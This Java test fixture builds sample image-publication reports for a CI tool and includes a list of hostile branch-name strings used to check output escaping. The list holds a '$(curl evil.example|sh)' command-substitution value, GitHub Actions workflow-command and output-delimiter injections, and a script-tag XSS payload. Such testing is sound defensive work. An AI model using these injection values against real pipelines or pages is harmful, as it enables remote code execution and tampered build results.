package io.github.imagemaven.ci;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.github.imagemaven.ci.ImageReport.FailedReport;
import io.github.imagemaven.ci.PlatformReport.Layer;
import io.github.imagemaven.oci.Digest;
import io.github.imagemaven.oci.Platform;
import io.github.imagemaven.publish.PublicationRecord.KeptTag;
import java.time.Duration;
import java.util.List;

/** Runs to report. */
final class Reports {
  /** What anybody who may push a branch can call it. */
  static final List<String> HOSTILE =
      List.of(
          "main\ndigest=sha256:evil",
          "x\r\n::error title=evil::evil",
          "::error::evil",
          "##[error]evil",
          "$(curl evil.example|sh)`id`${IFS}",
          "a%0Adigest=evil%25%0D",
          "image_EOF\nEOF\nghadelimiter",
          "🚀 \uD83D half, \u202Eturned\u202C, \u0000null, \u001B[31mred",
          "</code></details><script>alert(1)</script><img src=x onerror=y>",
          "| a | [b](https://evil.example) ![c](d) **e** `f` @everyone #1 :tada: &lt; \\",
          "r".repeat(300),
          "tags<<EOF",
          "=",
          "");

  static final Digest DIGEST = digest("orders");

  private Reports() {}

  static Digest digest(String of) {
    return Digest.ofBytes(of.getBytes(UTF_8));
  }

  static DestinationReport at(String repository, Digest digest) {
    return new DestinationReport(
        repository, digest, List.of("1.2.3", "latest"), 1_000_000, 20_000_000, 300_000);
  }

  /** Published to GHCR, Docker Hub and a directory. */
  static ImageReport orders() {
    return image("orders");
  }

  static ImageReport image(String name) {
    Digest digest = digest(name);
    List<Layer> layers = List.of(new Layer("base", 30_000_000), new Layer("classes", 12_345));
    return new ImageReport(
        name,
        List.of("1.2.3", "latest"),
        true,
        "1.2.3",
        List.of(
            new PlatformReport(Platform.parse("linux/amd64"), layers),
            new PlatformReport(Platform.parse("linux/arm64"), layers)),
        digest,
        List.of(
            at("oci:target/registry/" + name, digest),
            at("ghcr.io/acme/" + name, digest),
            at("acme/" + name, digest)),
        List.of(),
        List.of(),
        Duration.ofMillis(12_340));
  }

  /** As it is known before anything is compiled. */
  static ImageReport planned(String name) {
    return new ImageReport(
        name,
        List.of("latest"),
        true,
        null,
        List.of(new PlatformReport(Platform.parse("linux/amd64"), List.of())),
        null,
        List.of(DestinationReport.planned("ghcr.io/acme/" + name)),
        List.of(),
        List.of(),
        null);
  }

  /** With a text in every place where a text can be. */
  static ImageReport with(String text) {
    return new ImageReport(
        text,
        List.of(text, text + "2"),
        true,
        text,
        List.of(new PlatformReport(Platform.parse("linux/amd64"), List.of(new Layer(text, 12)))),
        DIGEST,
        List.of(
            new DestinationReport("oci:" + text, DIGEST, List.of(text), 1, 2, 3),
            new DestinationReport("ghcr.io/acme/app", DIGEST, List.of(text), 1, 2, 3)),
        List.of(new FailedReport("docker.io/acme/app", text)),
        List.of(new KeptTag(text, text)),
        Duration.ofSeconds(1));
  }

  static RunReport run(ImageReport... images) {
    return new RunReport("A release, since the tag is v1.2.3.", List.of(images));
  }
}
